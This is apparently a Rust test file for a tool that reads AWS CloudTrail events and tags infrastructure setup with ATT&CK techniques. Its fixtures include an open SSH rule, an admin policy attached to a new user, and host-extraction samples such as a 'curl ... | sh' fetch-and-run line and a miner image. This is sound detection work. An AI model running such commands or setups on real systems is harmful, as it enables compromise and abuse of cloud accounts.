//! What acquiring and configuring calls did, read out of events as CloudTrail writes them.

use schema::{Effect, Mention};

use crate::support::call;

fn effect<T>(
    (service, operation): (&str, &str),
    request: &str,
    response: &str,
    look: impl FnOnce(&Effect) -> T,
) -> T {
    let event = format!(
        r#"{{"eventTime":"2026-10-20T13:00:00Z","eventSource":"{service}.amazonaws.com",
            "eventName":"{operation}","requestParameters":{request},"responseElements":{response}}}"#
    );
    call(&event, |call| look(call.effect.as_ref().expect("an operation of the table")))
}

/// `KIND/TECHNIQUE COUNT NOUN CLASS`, then a line for resources, mentions and traits that there are.
pub(crate) fn describe(effect: &Effect) -> String {
    let operation = effect.operation;
    let mut text = format!(
        "{}/{} {} {}",
        operation.kind.as_str(),
        operation.technique,
        effect.count,
        operation.noun
    );
    if let Some(class) = &effect.class {
        text.extend([" ", class.as_str()]);
    }
    let mentions: Vec<String> = effect
        .mentions
        .iter()
        .map(|mention| match mention {
            Mention::Address(address) => address.to_string(),
            Mention::Network(address, length) => format!("{address}/{length}"),
            Mention::Name(name) => name.clone(),
        })
        .collect();
    for list in [effect.resources.join(" "), mentions.join(" "), effect.traits.join(", ")] {
        if !list.is_empty() {
            text.extend(["\n", list.as_str()]);
        }
    }
    text
}

fn check(at: (&str, &str), request: &str, response: &str, expected: &[&str]) {
    assert_eq!(effect(at, request, response, describe), expected.join("\n"), "{at:?}");
}

const LAUNCH: (&str, &str) = ("ec2", "RunInstances");

#[test]
fn a_launch_counts_instances_or_what_was_asked_for() {
    let request = r#"{"instancesSet":{"items":[{"imageId":"ami-1","minCount":1,"maxCount":20}]},
        "instanceType":"p4d.24xlarge","userData":"<sensitiveDataRemoved>"}"#;
    let response = r#"{"instancesSet":{"items":[{"instanceId":"i-1"},{"instanceId":"i-2"}]}}"#;
    check(LAUNCH, request, response, &["compute/T1583.003 2 server p4d.24xlarge", "i-1 i-2"]);
    check(LAUNCH, request, "null", &["compute/T1583.003 20 server p4d.24xlarge"]);
    check(LAUNCH, "null", "null", &["compute/T1583.003 1 server"]);
}

#[test]
fn a_fleet_names_the_instances_that_its_launch_names() {
    let request = r#"{"CreateFleetRequest":{"Type":"instant","TargetCapacitySpecification":
        {"TotalTargetCapacity":3,"DefaultTargetCapacityType":"spot"}}}"#;
    let many = r#"{"CreateFleetResponse":{"fleetId":"fleet-1","fleetInstanceSet":{"item":[
        {"instanceType":"c5.large","instanceIds":{"item":["i-1","i-2"]}},
        {"instanceType":"c5.xlarge","instanceIds":{"item":"i-3"}}]}}}"#;
    let at = ("ec2", "CreateFleet");
    check(at, request, many, &["compute/T1583.003 3 server c5.large", "i-1 i-2 i-3"]);
    let waiting = r#"{"CreateFleetResponse":{"fleetId":"fleet-1"}}"#;
    check(at, request, waiting, &["compute/T1583.003 3 server", "fleet-1"]);
}

#[test]
fn groups_tasks_and_nodes_count_what_they_launch() {
    check(
        ("autoscaling", "CreateAutoScalingGroup"),
        r#"{"autoScalingGroupName":"web","minSize":0,"maxSize":50,"desiredCapacity":12}"#,
        "null",
        &["compute/T1583.003 12 auto-scaled server", "web"],
    );
    check(
        ("autoscaling", "CreateAutoScalingGroup"),
        r#"{"autoScalingGroupName":"web","minSize":0,"maxSize":50,"desiredCapacity":0}"#,
        "null",
        &["compute/T1583.003 1 auto-scaled server", "web"],
    );
    check(
        ("ecs", "RunTask"),
        r#"{"count":4,"launchType":"FARGATE"}"#,
        r#"{"tasks":[{"taskArn":"arn:t/1"},{"taskArn":"arn:t/2"}],"failures":[]}"#,
        &["compute/T1583.003 2 container task FARGATE", "arn:t/1 arn:t/2"],
    );
    check(
        ("elasticmapreduce", "RunJobFlow"),
        r#"{"instances":{"instanceGroups":[{"instanceCount":1,"instanceType":"m5.xlarge"},
            {"instanceCount":8,"instanceType":"m5.xlarge"}]}}"#,
        r#"{"jobFlowId":"j-1"}"#,
        &["compute/T1583.003 9 cluster node m5.xlarge", "j-1"],
    );
    check(
        ("lightsail", "CreateInstances"),
        r#"{"instanceNames":["vps-1","vps-2"],"bundleId":"nano_2_0","availabilityZone":"eu-west-1a"}"#,
        "null",
        &["compute/T1583.003 2 virtual private server nano_2_0", "vps-1 vps-2"],
    );
}

#[test]
fn addresses_and_functions() {
    check(
        ("ec2", "AllocateAddress"),
        r#"{"domain":"vpc"}"#,
        r#"{"publicIp":"203.0.113.50","allocationId":"eipalloc-1"}"#,
        &["address/T1583.003 1 Elastic IP address", "203.0.113.50"],
    );
    check(
        ("lambda", "CreateFunction20150331"),
        r#"{"functionName":"relay","runtime":"python3.12","handler":"lambda_function.lambda_handler",
            "code":{"s3Key":"relay.zip"},"layers":["arn:aws:lambda:eu-west-1:1:layer:x"]}"#,
        "null",
        &["serverless/T1583.007 1 function python3.12", "relay"],
    );
    check(
        ("lambda", "CreateFunctionUrlConfig"),
        r#"{"functionName":"relay","authType":"NONE"}"#,
        r#"{"functionUrl":"https://abc.lambda-url.eu-west-1.on.aws/"}"#,
        &[
            "serverless/T1583.007 1 function URL",
            "https://abc.lambda-url.eu-west-1.on.aws/",
            "public",
        ],
    );
    check(
        ("lambda", "AddPermission20150331v2"),
        r#"{"functionName":"relay","principal":"*","action":"lambda:InvokeFunctionUrl"}"#,
        "null",
        &["serverless/T1583.007 1 function permission", "relay", "public"],
    );
}

#[test]
fn domains_are_resources_and_name_servers_are_mentions() {
    check(
        ("route53domains", "registerdomain"),
        r#"{"domainName":"halvard-careers.com","durationInYears":1,
            "privacyProtectRegistrantContact":true,"registrantContact":"***"}"#,
        r#"{"operationId":"1234"}"#,
        &["domain/T1583.001 1 domain", "halvard-careers.com", "halvard-careers.com", "privacy on"],
    );
    check(
        ("route53domains", "disabledomaintransferlock"),
        r#"{"domainName":"halvard.example"}"#,
        "null",
        &[
            "domain/T1583.001 1 transfer lock",
            "halvard.example",
            "halvard.example",
            "transfer lock off",
        ],
    );
    check(
        ("route53domains", "updatedomainnameservers"),
        r#"{"domainName":"halvard.example","nameservers":[{"name":"NS1.Njal.la."},
            {"name":"ns2.njal.la","glueIps":["203.0.113.8"]}]}"#,
        "null",
        &[
            "domain/T1583.002 1 name-server change",
            "halvard.example",
            "halvard.example ns1.njal.la ns2.njal.la 203.0.113.8",
        ],
    );
}

#[test]
fn records_point_to_names_and_addresses() {
    check(
        ("route53", "ChangeResourceRecordSets"),
        r#"{"hostedZoneId":"Z1","changeBatch":{"changes":[
            {"action":"CREATE","resourceRecordSet":{"name":"vpn.halvard.example.","type":"A","tTL":300,
                "resourceRecords":[{"value":"203.0.113.77"}]}},
            {"action":"CREATE","resourceRecordSet":{"name":"cdn.halvard.example.","type":"A",
                "aliasTarget":{"dNSName":"x1.cloudfront.net.","hostedZoneId":"Z2FDTNDATAQYW2"}}},
            {"action":"UPSERT","resourceRecordSet":{"name":"lb.halvard.example.","type":"A",
                "aliasTarget":{"dNSName":"lb-1.eu-west-1.elb.amazonaws.com"}}},
            {"action":"CREATE","resourceRecordSet":{"name":"halvard.example.","type":"TXT",
                "resourceRecords":[{"value":"\"v=spf1 ip4:198.51.100.0/24 include:_spf.mail.example -all\""}]}}]}}"#,
        r#"{"changeInfo":{"id":"/change/C1"}}"#,
        &[
            "dns/T1583.002 4 DNS record",
            "vpn.halvard.example cdn.halvard.example lb.halvard.example halvard.example Z1",
            "vpn.halvard.example 203.0.113.77 cdn.halvard.example x1.cloudfront.net \
             lb.halvard.example lb-1.eu-west-1.elb.amazonaws.com halvard.example 198.51.100.0/24 \
             _spf.mail.example",
        ],
    );
}

#[test]
fn rules_open_doors() {
    let at = ("ec2", "AuthorizeSecurityGroupIngress");
    let rule = |network: &str| {
        format!(
            r#"{{"groupId":"sg-1","ipPermissions":{{"items":[{{"ipProtocol":"tcp","fromPort":22,
                "ipRanges":{{"items":[{{"cidrIp":"{network}","description":"see wiki.sh"}}]}},
                "ipv6Ranges":{{}}}}]}}}}"#
        )
    };
    let noun = "network/T1583 1 security-group rule";
    check(at, &rule("0.0.0.0/0"), "null", &[noun, "sg-1", "open to the Internet"]);
    check(at, &rule("203.0.113.7/32"), "null", &[noun, "sg-1", "203.0.113.7/32"]);
    check(at, &rule("2001:db8::/32"), "null", &[noun, "sg-1", "2001:db8::/32"]);
}

#[test]
fn gateways_and_resolvers_name_the_other_side() {
    check(
        ("ec2", "CreateCustomerGateway"),
        r#"{"type":"ipsec.1","bgpAsn":65000,"publicIp":"203.0.113.9"}"#,
        r#"{"customerGateway":{"customerGatewayId":"cgw-1"}}"#,
        &["network/T1583 1 customer gateway", "cgw-1", "203.0.113.9"],
    );
    check(
        ("route53resolver", "CreateResolverRule"),
        r#"{"domainName":"corp.halvard.example","ruleType":"FORWARD",
            "targetIps":[{"ip":"203.0.113.53","port":53}]}"#,
        r#"{"resolverRule":{"id":"rslvr-rr-1"}}"#,
        &["dns/T1583.002 1 resolver rule", "rslvr-rr-1", "corp.halvard.example 203.0.113.53"],
    );
    check(
        ("ec2", "CreateDhcpOptions"),
        r#"{"dhcpConfigurationSet":{"items":[{"key":"domain-name-servers",
            "valueSet":{"items":[{"value":"203.0.113.53"}]}}]}}"#,
        r#"{"dhcpOptions":{"dhcpOptionsId":"dopt-1"}}"#,
        &["network/T1583.002 1 DHCP option set", "dopt-1", "203.0.113.53"],
    );
    check(
        ("cloudfront", "CreateDistribution2020_05_31"),
        r#"{"distributionConfig":{"origins":{"items":[{"domainName":"shop.evil-cdn.ru","id":"o"}]},
            "aliases":{"items":["*.halvard.example"]}}}"#,
        r#"{"distribution":{"id":"E1","domainName":"d1.cloudfront.net"}}"#,
        &["network/T1583.006 1 content distribution", "E1", "shop.evil-cdn.ru halvard.example"],
    );
}

#[test]
fn identities_accounts_and_services() {
    check(
        ("iam", "CreateAccessKey"),
        r#"{"userName":"backup"}"#,
        r#"{"accessKey":{"accessKeyId":"AKIANEW","userName":"backup"}}"#,
        &["identity/T1583 1 access key", "AKIANEW"],
    );
    check(
        ("iam", "CreateUser"),
        r#"{"userName":"backup"}"#,
        r#"{"user":{"userName":"backup"}}"#,
        &["identity/T1583 1 user", "backup"],
    );
    check(
        ("iam", "AttachUserPolicy"),
        r#"{"userName":"backup","policyArn":"arn:aws:iam::aws:policy/AdministratorAccess"}"#,
        "null",
        &["identity/T1583 1 user permission", "backup arn:aws:iam::aws:policy/AdministratorAccess"],
    );
    check(
        ("iam", "CreateOpenIDConnectProvider"),
        r#"{"url":"https://token.actions.githubusercontent.com"}"#,
        r#"{"openIDConnectProviderArn":"arn:aws:iam::1:oidc-provider/x"}"#,
        &[
            "identity/T1583 1 identity provider",
            "arn:aws:iam::1:oidc-provider/x",
            "token.actions.githubusercontent.com",
        ],
    );
    check(
        ("account", "EnableRegion"),
        r#"{"RegionName":"ap-southeast-3"}"#,
        "null",
        &["account/T1583 1 region", "ap-southeast-3"],
    );
    check(
        ("ses", "CreateEmailIdentity"),
        r#"{"emailIdentity":"news.halvard-mail.com"}"#,
        "null",
        &["saas/T1583.006 1 mail identity", "news.halvard-mail.com", "news.halvard-mail.com"],
    );
    check(
        ("s3", "PutBucketPolicy"),
        r#"{"bucketName":"drop.halvard.example","bucketPolicy":{"Statement":[{"Effect":"Allow",
            "Principal":"*","Action":"s3:GetObject","Resource":"arn:aws:s3:::drop/*"}]},
            "Host":"drop.s3.eu-west-1.amazonaws.com"}"#,
        "null",
        &[
            "storage/T1583.006 1 bucket policy",
            "drop.halvard.example",
            "drop.halvard.example",
            "public",
        ],
    );
}

#[test]
fn what_is_no_host_is_not_mentioned() {
    let mentions = |values: &str| {
        effect(LAUNCH, &format!(r#"{{"tagSet":[{values}]}}"#), "null", |effect| {
            effect.mentions.len()
        })
    };
    for value in [
        "deploy.sh",
        "main.py",
        "readme.md",
        "app.zip",
        "t3.micro",
        "python3.12",
        "1.2.3",
        "v1.2.3.4",
        "index.handler",
        "arn:aws:s3:::files.example.com/x",
        "ec2.amazonaws.com",
        "12:30:45",
        "co.uk",
        "com",
        "a",
        "-",
        "my_bucket.internal_name",
        "0.0.0.0/0",
        "::/0",
        "Version 2.0.",
        "nginx:1.25.3",
        "2012-10-17",
        "x..y",
        "-a-.com",
    ] {
        assert_eq!(mentions(&format!("\"{value}\"")), 0, "{value}");
    }
    for value in [
        "https://deploy.sh/x",
        "curl http://203.0.113.9:8080/a.sh | sh",
        "evil.com",
        "ops@evil.com",
        "ghcr.io/evil/miner:latest",
        "10.0.0.0/8",
        "2001:db8::1",
        "xn--bcher-kva.com",
        "bücher.com",
        "hidden.onion",
        "http://[2001:db8::1]:80/",
        "\\\\052.evil.com",
        "--upstream=evil.com",
    ] {
        assert_eq!(mentions(&format!("\"{value}\"")), 1, "{value}");
    }
    assert_eq!(mentions(r#""evil.com","EVIL.com.","https://evil.com/""#), 1);
}

#[test]
fn a_hostile_call_is_bounded() {
    let many: Vec<String> = (0..5000).map(|index| format!("\"n{index}.evil.com\"")).collect();
    let request = format!(
        r#"{{"instancesSet":{{"items":[{{"maxCount":4294967296}}]}},"x":[{}]}}"#,
        many.join(",")
    );
    effect(LAUNCH, &request, "null", |effect| {
        assert_eq!(effect.count, u32::MAX);
        assert_eq!(effect.mentions.len(), 1000);
    });
}
